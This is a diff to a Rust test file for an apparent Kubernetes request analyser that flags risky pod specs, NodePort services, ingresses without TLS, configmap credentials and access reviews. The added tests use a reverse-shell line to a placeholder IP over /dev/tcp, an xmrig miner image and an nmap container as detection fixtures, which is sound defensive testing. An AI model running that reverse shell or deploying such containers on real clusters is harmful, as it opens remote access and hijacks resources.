@@ -36,6 +36,7 @@ fn pods_and_the_templates_of_workloads() {
         host_paths: vec!["/".into()],
         added_capabilities: vec!["SYS_ADMIN".into()],
         service_account: "default".into(),
+        containers: true,
         ..PodFacts::default()
     };
     for (kind, body) in [
@@ -90,7 +91,7 @@ fn a_body_that_does_not_fit_says_nothing_and_hurts_nothing() {
         assert!(seen.is_none_or(|pod| pod == PodFacts::default()), "{body}");
     }
     assert_eq!(facts("delete", "pods", "{}"), None);
-    assert_eq!(facts("create", "configmaps", "{}"), None);
+    assert_eq!(facts("create", "endpoints", "{}"), None);
 }
 
 #[test]
@@ -118,4 +119,32 @@ fn padding_neither_grows_the_tree_nor_hides_what_follows() {
     assert!(facts("patch", "pods", &body).unwrap().pod.unwrap().host_network);
     let tree = body::parse(&format!("[{zeros}0]")).unwrap();
     assert!(tree.as_array().unwrap().len() <= 50_000);
+}
+
+#[test]
+fn what_commands_and_images_look_like_is_said_and_not_kept() {
+    let pod = |spec: &str| facts("create", "pods", &format!(r#"{{"spec":{spec}}}"#)).unwrap().pod.unwrap();
+    let shell =
+        pod(r#"{"containers":[{"image":"busybox","command":["sh","-c"],"args":["sh -i >& /dev/tcp/192.0.2.1/9"]}]}"#);
+    assert!(shell.shell && !shell.tool && !shell.miner && !shell.root);
+    let miner = pod(r#"{"securityContext":{"runAsUser":0},"containers":[{"image":"x/xmrig:6"}]}"#);
+    assert!(miner.miner && miner.root && !miner.shell);
+    assert!(pod(r#"{"initContainers":[{"name":"nmap-7"}],"shareProcessNamespace":true}"#).tool);
+    let plain = pod(r#"{"containers":[{"name":"inmapper","image":"x/web","securityContext":{"runAsUser":1000}}]}"#);
+    assert_eq!(plain, PodFacts { containers: true, ..PodFacts::default() });
+}
+
+#[test]
+fn services_ingresses_config_maps_and_reviews() {
+    let port = facts("patch", "services", r#"{"spec":{"type":"NodePort"}}"#).unwrap();
+    assert_eq!(port.service_type, "NodePort");
+    let ingress = |verb: &str, body: &str| facts(verb, "ingresses.networking.k8s.io", body).map(|f| f.without_tls);
+    assert_eq!(ingress("create", r#"{"spec":{"rules":[]}}"#), Some(true));
+    assert_eq!(ingress("create", r#"{"spec":{"tls":[{"secretName":"x"}]}}"#), Some(false));
+    assert_eq!(ingress("patch", r#"{"spec":{"rules":[]}}"#), None);
+    assert!(facts("create", "configmaps", r#"{"data":{"db":"password=5"}}"#).unwrap().credentials);
+    assert!(!facts("create", "configmaps", r#"{"data":{"db":"host=5"}}"#).unwrap().credentials);
+    let body = r#"{"spec":{"user":"x","resourceAttributes":{"verb":"get","resource":"nodes","subresource":"proxy"}}}"#;
+    let review = facts("create", "subjectaccessreviews.authorization.k8s.io", body).unwrap().review.unwrap();
+    assert_eq!((review.user.as_str(), review.subresource.as_str()), ("x", "proxy"));
 }
